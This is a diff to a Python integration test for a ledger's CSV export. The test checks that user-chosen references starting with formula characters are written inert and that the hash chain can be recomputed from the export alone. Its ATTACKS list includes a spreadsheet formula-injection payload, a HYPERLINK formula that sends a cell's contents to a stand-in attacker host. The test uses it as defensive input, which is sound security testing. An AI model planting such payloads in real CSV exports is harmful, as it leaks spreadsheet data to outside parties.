@@ -6,7 +6,6 @@ or a CR are written inert, and the hash chain is still recomputed from the expor
 from __future__ import annotations
 
 import csv
-import hashlib
 import io
 
 import pytest
@@ -15,7 +14,7 @@ from kernel import csvout
 from ledger import service as ledger
 from ledger.entries import Transfer
 from ledger.transactions import Initiator
-from tests.integration.ledger.conftest import NOW, Books
+from tests.integration.ledger.conftest import NOW, Books, export_hash
 
 pytestmark = pytest.mark.db
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
@@ -41,7 +40,6 @@ def test_user_chosen_references_are_inert_and_the_chain_recomputes(platform, boo
         assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values())
     prev = "0" * 64
     for r in rows:  # an auditor recomputes the chain from the export alone
-        parts = [prev] + [csvout.unescape(r[k]) for k in HASHED]
-        assert hashlib.sha256("\x1f".join(parts).encode()).hexdigest() == r["hash"]
+        assert export_hash(prev, {k: csvout.unescape(v) for k, v in r.items()}) == r["hash"]
         prev = r["hash"]
     assert ledger.verify(platform.uow()).ok
